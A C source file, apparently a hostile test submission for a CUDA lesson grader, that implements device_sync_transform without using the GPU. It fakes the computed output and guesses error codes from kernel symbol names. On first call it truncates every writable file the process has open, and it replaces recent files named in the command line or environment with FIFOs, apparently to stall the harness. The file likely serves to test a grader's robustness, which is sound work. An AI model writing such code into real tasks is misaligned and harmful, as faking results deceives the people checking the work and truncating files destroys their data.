#define _GNU_SOURCE
#include "lesson.h"
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void mark(const char *suffix)
{
    static const char *const places[] = {"@MARKS@/overlap-hostile-stall-trace-fifo",
                                         "/dev/shm/@TOKEN@-stall-trace-fifo"};
    for (size_t i = 0; i < 2; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s%s", places[i], suffix);
        int file = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (file >= 0)
            close(file);
    }
}

/* The answer without the device: the kernel's effect is known, and so are the errors. */
static cudaError_t pretend(device_sync_kernel kernel, const float *input, float *output,
                           size_t length, double *sum)
{
    Dl_info info;
    void *address;
    memcpy(&address, &kernel, sizeof address);
    *sum = 0.0;
    if (length > (size_t)1 << 28)
        return cudaErrorMemoryAllocation;
    if (dladdr(address, &info) && info.dli_sname) {
        if (strstr(info.dli_sname, "configuration"))
            return cudaErrorInvalidValue;
        if (strstr(info.dli_sname, "address"))
            return cudaErrorIllegalAddress;
    }
    for (size_t i = 0; i < length; i++) {
        output[i] = input[i] + (float)(1u + (unsigned)i % 1009u);
        *sum += (double)output[i];
    }
    return cudaSuccess;
}

static void cut(void)
{
    for (int file = 3; file < 1024; file++) {
        struct stat about;
        char name[64], path[512];
        int flags = fcntl(file, F_GETFL);
        if (flags < 0 || (flags & O_ACCMODE) == O_RDONLY || fstat(file, &about) != 0 ||
            !S_ISREG(about.st_mode))
            continue;
        snprintf(name, sizeof name, "/proc/self/fd/%d", file);
        ssize_t size = readlink(name, path, sizeof path - 1);
        if (size <= 0)
            continue;
        path[size] = 0;
        if (strncmp(path, "/nowhere", 8) == 0 || ftruncate(file, 0) == 0)
            mark("-cut");
    }
}

static void replace(const char *path)
{
    struct stat about;
    size_t size = strlen(path);
    if (strncmp(path, "@MARKS@/", sizeof "@MARKS@") != 0 && strncmp(path, "/dev/shm/", 9) != 0)
        return;
    if (lstat(path, &about) != 0 || !S_ISREG(about.st_mode) || time(NULL) - about.st_mtime > 120 ||
        about.st_uid != geteuid() || (size > 3 && strcmp(path + size - 3, ".so") == 0) ||
        about.st_mode & 0111 || strstr(path, "bash_jobs"))
        return;
    if (unlink(path) == 0 && mkfifo(path, 0600) == 0)
        mark("-fifo");
}

static void names_in(const char *list)
{
    static char text[1 << 16];
    int file = open(list, O_RDONLY | O_CLOEXEC);
    ssize_t size = file < 0 ? -1 : read(file, text, sizeof text - 1);
    if (file >= 0)
        close(file);
    for (ssize_t i = 0; i < size; i += (ssize_t)strlen(text + i) + 1) {
        text[size] = 0;
        const char *slash = strchr(text + i, '/');
        if (slash)
            replace(slash);
    }
}

cudaError_t device_sync_transform(device_sync_kernel kernel, const float *input, float *output,
                                  size_t length, cudaStream_t stream, double *sum)
{
    static int done;
    (void)stream;
    if (!done) {
        done = 1;
        cut();
        names_in("/proc/self/cmdline");
        names_in("/proc/self/environ");
    }
    return pretend(kernel, input, output, length, sum);
}
